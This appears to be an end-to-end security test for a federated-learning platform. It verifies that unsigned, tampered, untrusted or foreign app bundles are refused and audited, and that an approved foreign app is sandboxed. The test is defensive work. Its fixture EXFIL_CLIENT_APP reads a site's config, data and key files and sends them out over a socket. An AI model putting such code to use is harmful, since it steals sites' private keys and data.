"""End to end, RELIABILITY row "malicious bundle": a `medfed site start` daemon (worker,
SuperNode, warm executor) behind a real TLS SuperLink runs only app bundles its trusted
key signed. An unsigned run, a bundle changed after signing, and a bundle signed by a key
the site does not trust are each refused: the run fails naming the bundle's signature,
the site's signed audit log has a `bundle.refused` entry with the bundle's hash, and the
refused bundle is never installed. Then a properly signed run trains; the bundle the
coordinator ran (its FAB hash, as Flower records it) is the one that was signed."""

from __future__ import annotations

import hashlib
import os
import time
from pathlib import Path

import pytest

from medfed.app_bundle import CLIENT_APP, build_app_dir, signature_run_config
from medfed.client.config import SITE_TOML
from medfed.client.sandbox import landlock_abi
from medfed.consortium import write_demo_consortium
from medfed.coordinator.results import RunResults, read_results
from medfed.coordinator.study import StudySettings
from medfed.demo import (
    _programs,
    _run_config,
    _start_site_daemons,
    _start_superlink,
    _submit,
    _write_flwr_config,
    make_bundle_signing,
)
from medfed.flower.fab import build_fab
from medfed.privacy.audit import AuditLog, verify_audit_log
from medfed.privacy.pki import provision_loopback
from medfed.privacy.signing import SigningKey
from medfed.processes import ProcessGroup
from medfed.sites.synthetic import site_ids
from tests.conftest import TEST_TAG_VARIABLE
from tests.sitekit import make_study, site_config, site_public_key, spend_rows

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

SITE = site_ids(1)[0]
EXFIL_CLIENT_APP = """
import socket
from pathlib import Path

import numpy as np
from flwr.app import ArrayRecord, Message, RecordDict
from medfed.flower.apps import ClientApp  # Flower's ClientApp, through medfed's door

app = ClientApp()


@app.train()
@app.query()
def take(msg: Message, context: object) -> Message:
    # What the red team's app did: the site's site.toml, data and keys, and a connection out.
    site = Path(str(context.node_config["site-config"])).parent
    loot = b"".join(path.read_bytes() for path in site.rglob("*") if path.is_file())
    socket.create_connection(("127.0.0.1", 9)).sendall(loot)
    rows = np.frombuffer(loot[: len(loot) // 4 * 4], dtype=np.float32)
    return Message(RecordDict({"arrays": ArrayRecord({"w": rows})}), reply_to=msg)
"""
RUN_TIMEOUT_S = 120.0


def _app(tmp_path: Path, name: str, study: StudySettings, sites_root: Path) -> Path:
    """An app folder whose run writes its results and audit chain to `tmp_path/name/`."""
    results = tmp_path / name / "results.json"
    return build_app_dir(tmp_path / name / "app", _run_config(study, results, sites_root))


def _finished(group: ProcessGroup, app_dir: Path) -> RunResults:
    """The run's results once it completed or failed."""
    path = app_dir.parent / "results.json"
    deadline = time.monotonic() + RUN_TIMEOUT_S
    while time.monotonic() < deadline:
        group.check_alive()
        results = read_results(path)
        if results is not None and results.status in ("completed", "failed"):
            return results
        time.sleep(0.2)
    raise AssertionError(f"the run of {app_dir} did not finish within {RUN_TIMEOUT_S:g} s")


def _foreign_app(tmp_path: Path, name: str, study: StudySettings, sites_root: Path) -> Path:
    """An app folder whose ClientApp is `EXFIL_CLIENT_APP`, not medfed's (its ServerApp is)."""
    app_dir = _app(tmp_path, name, study, sites_root)
    pyproject = app_dir / "pyproject.toml"
    text = pyproject.read_text().replace(f'"{CLIENT_APP}"', '"exfil.client:app"')
    pyproject.write_text(text)
    (app_dir / "exfil").mkdir()
    (app_dir / "exfil" / "__init__.py").write_text(f"# {name}\n")
    (app_dir / "exfil" / "client.py").write_text(EXFIL_CLIENT_APP)
    return app_dir


def _fab_sha256(app_dir: Path) -> str:
    """The bundle `flwr run app_dir` sends, hashed here (Flower builds it deterministically)."""
    return hashlib.sha256(build_fab(app_dir)).hexdigest()


def _coordinator_app_sha256(app_dir: Path) -> str:
    """The FAB hash the ServerApp read from Flower (`grid.run.fab_hash`) for its run."""
    entries = AuditLog(app_dir.parent / "audit.jsonl", None).entries()
    (started,) = [entry for entry in entries if entry.event == "run.started"]
    return str(started.details["app_sha256"])


def test_unsigned_tampered_and_untrusted_bundles_are_refused_a_signed_one_trains(
    tmp_path: Path, process_tag: str
) -> None:
    programs = _programs(False)
    # One site: a sum of one update hides nothing, so secure aggregation is off here.
    study = make_study(
        rounds=1,
        sites=1,
        local_steps=3,
        min_sites=1,
        round_timeout_s=60.0,
        secure_aggregation=False,
    )
    sites_root = tmp_path / "sites"
    write_demo_consortium(sites_root, study, n_sites=1, seed=3)
    pki = provision_loopback(tmp_path / "pki", (SITE,))
    signing = make_bundle_signing(tmp_path / "app-signing")
    intruder = SigningKey.generate()

    unsigned = _app(tmp_path, "unsigned", study, sites_root)
    tampered = _app(tmp_path, "tampered", study, sites_root)
    tampered_signature = signing.run_config(tampered)
    (tampered / "medfed" / "client" / "backdoor.py").write_text("print('not what was signed')\n")
    untrusted = _app(tmp_path, "untrusted", study, sites_root)
    untrusted_signature = signature_run_config(untrusted, intruder, key_id="intruder")
    # The red team's bundle: signed with the consortium's real app-signing key, its
    # ClientApp is its own code, which would read the site's key and data files and send
    # them out; the site runs only medfed's own ClientApp (or a bundle it approved).
    foreign = _foreign_app(tmp_path, "foreign", study, sites_root)
    foreign_signature = signing.run_config(foreign)
    # The same app, approved by the site by its hash: it runs, confined (`client.sandbox`),
    # so its first read of the site's files fails and nothing leaves.
    approved = _foreign_app(tmp_path, "approved", study, sites_root)
    approved_signature = signing.run_config(approved)
    signed = _app(tmp_path, "signed", study, sites_root)

    env = {**os.environ, TEST_TAG_VARIABLE: process_tag, "FLWR_HOME": str(tmp_path / "flwr")}
    refused: dict[str, RunResults] = {}
    with ProcessGroup(log_dir=tmp_path / "logs", env=env) as group:
        port = _start_superlink(group, programs, tmp_path, pki, simulation=False)
        _write_flwr_config(tmp_path / "flwr", port, pki, None)
        _start_site_daemons(group, programs, port, pki, sites_root, group.env,
                            trusted_entities=signing.trusted_entities,
                            approved_apps=[_fab_sha256(approved)])  # fmt: skip
        for name, app_dir, run_config in (
            ("unsigned", unsigned, None),
            ("tampered", tampered, tampered_signature),
            ("untrusted", untrusted, untrusted_signature),
            ("foreign", foreign, foreign_signature),
        ):
            _submit(programs, app_dir, group.env, run_config=run_config)
            refused[name] = _finished(group, app_dir)
        _submit(programs, approved, group.env, run_config=approved_signature)
        confined = _finished(group, approved)
        _submit(programs, signed, group.env, run_config=signing.run_config(signed))
        trained = _finished(group, signed)

    reasons = {
        "unsigned": "the app bundle is unsigned",
        "tampered": "the app bundle's signature by 'medfed-demo' does not verify: the bundle"
        " was altered after signing",
        "untrusted": "the app bundle is signed by 'intruder', a key not trusted",
        "foreign": "its ClientApp exfil.client:app is not medfed's own",
    }
    for name, results in refused.items():
        assert results.status == "failed", (name, results)
        assert f"the site refused the app bundle: {reasons[name]}" in str(results.error), name
        assert results.rounds_completed == 0

    site_toml = sites_root / SITE / SITE_TOML
    config = site_config(site_toml)
    assert verify_audit_log(config.audit_path, site_public_key(site_toml)).ok
    entries = [
        e for e in AuditLog(config.audit_path, None).entries() if e.event == "bundle.refused"
    ]
    by_hash: dict[str, list[str]] = {}  # each refused task: the run's query, then its train
    for entry in entries:
        by_hash.setdefault(str(entry.details["fab_hash"]), []).append(str(entry.details["reason"]))
    apps = {"unsigned": unsigned, "tampered": tampered, "untrusted": untrusted, "foreign": foreign}
    assert list(by_hash) == [_fab_sha256(app) for app in apps.values()]
    for name, app_dir in apps.items():
        assert all(reasons[name] in reason for reason in by_hash[_fab_sha256(app_dir)]), name
    # The hash the site refused is the bundle the coordinator ran: the tampered one, with
    # the file added after signing, not the signed one.
    assert _coordinator_app_sha256(tampered) == _fab_sha256(tampered)
    # Nothing of a refused bundle was installed; the signed one was.
    installed = config.state_dir / "flwr" / "apps"
    assert not list(installed.rglob("backdoor.py"))
    folders = sorted(path.name for path in installed.iterdir() if path.is_dir())
    # Flower names an installed bundle's folder by its hash's first 8 characters.
    assert [name.rsplit(".", 1)[1] for name in folders] == sorted(
        _fab_sha256(app)[:8] for app in (approved, signed)
    )

    # The approved app ran, and failed at its first read of the site's files: the reply
    # names only the failure's type; no data, path or key reached the coordinator.
    assert confined.status == "failed" and confined.rounds_completed == 0
    # (A kernel without Landlock runs it unconfined, as the executor's log warns: then its
    # connection out is what fails, as nothing listens on port 9.)
    failure = "(PermissionError)" if landlock_abi() else "(ConnectionRefusedError)"
    assert failure in str(confined.error), confined.error
    chain = (approved.parent / "audit.jsonl").read_text()
    for secret in (str(sites_root), "BEGIN PRIVATE KEY", config.site.id + "-p0"):
        assert secret not in str(confined.error) and secret not in chain

    assert trained.status == "completed", trained.error
    assert trained.rounds_completed == 1 and trained.per_round[0].participants == [SITE]
    assert _coordinator_app_sha256(signed) == _fab_sha256(signed)
    assert [row.round for row in spend_rows(site_toml)] == [1]  # only the signed run spent
